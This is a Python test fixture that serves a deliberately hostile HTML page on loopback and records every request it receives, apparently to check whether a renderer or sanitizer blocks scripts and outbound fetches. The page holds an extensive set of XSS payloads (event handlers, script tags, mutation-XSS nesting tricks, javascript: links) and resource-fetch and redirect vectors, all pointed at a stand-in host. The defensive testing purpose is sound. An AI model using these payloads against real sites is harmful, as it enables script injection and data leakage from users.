"""A site that tries all it can, and keeps who asked it for what."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

RUN = "fetch('EVIL/ran');new Image().src='EVIL/ran';top.document.title='taken'"

SCRIPTS = f"""
<script>{RUN}</script>
<script src="EVIL/a.js"></script>
<script type="module">{RUN}</script>
<img src="EVIL/no.png" onerror="{RUN}">
<img src=x: onerror={RUN.replace(" ", "")}>
<svg onload="{RUN}"><script>{RUN}</script><style><img src=x: onerror="{RUN}"></style></svg>
<svg><style></style><image href="EVIL/svg.png"/><use href="EVIL/use.svg#a"/></svg>
<details open ontoggle="{RUN}"><summary>s</summary></details>
<input autofocus onfocus="{RUN}">
<body onload="{RUN}" onpageshow="{RUN}" background="EVIL/body.png">
<iframe src="EVIL/frame.html"></iframe>
<iframe srcdoc="<script>{RUN}</script><img src='EVIL/srcdoc.png'>"></iframe>
<object data="EVIL/object.html"></object><embed src="EVIL/embed.html">
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror={RUN}>">
</math>
<title></title><script>{RUN}</script></title>
<textarea></textarea><script>{RUN}</script></textarea>
<noscript><p title="</noscript><img src=x: onerror={RUN}>"></noscript>
<!--><img src=x: onerror="{RUN}">-->
<template><script>{RUN}</script></template>
"""
FETCHES = """
<link rel="prefetch" href="EVIL/prefetch"><link rel="preload" as="image" href="EVIL/preload">
<link rel="dns-prefetch" href="//evil.example.com"><link rel="preconnect" href="EVIL">
<link rel="stylesheet" href="EVIL/s.css"><link rel="icon" href="EVIL/icon.png">
<link rel="manifest" href="EVIL/manifest.json"><link rel="modulepreload" href="EVIL/m.js">
<style>@import "EVIL/import.css"; @import url(EVIL/import2.css);
@font-face { font-family: f; src: url(EVIL/font.woff2) }
body { background: url(EVIL/bg.png); font-family: f; cursor: url(EVIL/c.cur), auto }
p { background: u\\72l(EVIL/escaped.png); border-image: image-set("EVIL/set.png" 1x) }
p::after { content: url("EVIL/after.png") }</style>
<p style="background:url(EVIL/inline.png)">A hostile page</p>
<img src="EVIL/a.png" srcset="EVIL/2x.png 2x" alt="picture">
<picture><source srcset="EVIL/source.png"><img src="EVIL/b.png" alt=""></picture>
<video src="EVIL/v.mp4" poster="EVIL/poster.png" autoplay></video>
<audio src="EVIL/a.mp3" autoplay></audio>
<input type="image" src="EVIL/input.png"><table background="EVIL/table.png"><tr><td>t</table>
<form action="EVIL/form" method="post" target="_top"><input name="a">
<button formaction="EVIL/formaction">Send</button></form>
<a href="EVIL/next" ping="EVIL/ping" target="_top">next page</a>
<a href="javascript:fetch('EVIL/ran')" id="bad">a script</a>
<svg width="60" height="20"><a href="EVIL/svg-link" xlink:href="EVIL/svg-link">
<text y="15">svg link</text></a></svg>
"""
LEADS_AWAY = '<base href="EVIL/base/"><meta http-equiv="refresh" content="0;url=EVIL/refresh">'


@dataclass
class HostileSite:
    """`asked` holds the paths asked for, each with the User-Agent that asked."""

    url: str
    asked: list[tuple[str, str]] = field(default_factory=list)

    def by_browser(self) -> list[str]:
        """What the real browser asked for."""
        return [path for path, agent in self.asked if "Mozilla" in agent]


@contextmanager
def hostile_site() -> Iterator[HostileSite]:
    """The site, on loopback; `/` is the page, and everything else answers 404."""
    site = HostileSite("")

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            site.asked.append((self.path, self.headers.get("User-Agent", "")))
            html = (LEADS_AWAY + FETCHES + SCRIPTS).replace("EVIL", site.url)
            found = self.path == "/"
            body = html.encode() if found else b"nothing here"
            self.send_response(200 if found else 404)
            self.send_header("Content-Type", "text/html" if found else "text/plain")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        site.url = f"http://127.0.0.1:{server.server_port}"
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield site
        server.shutdown()
        thread.join()
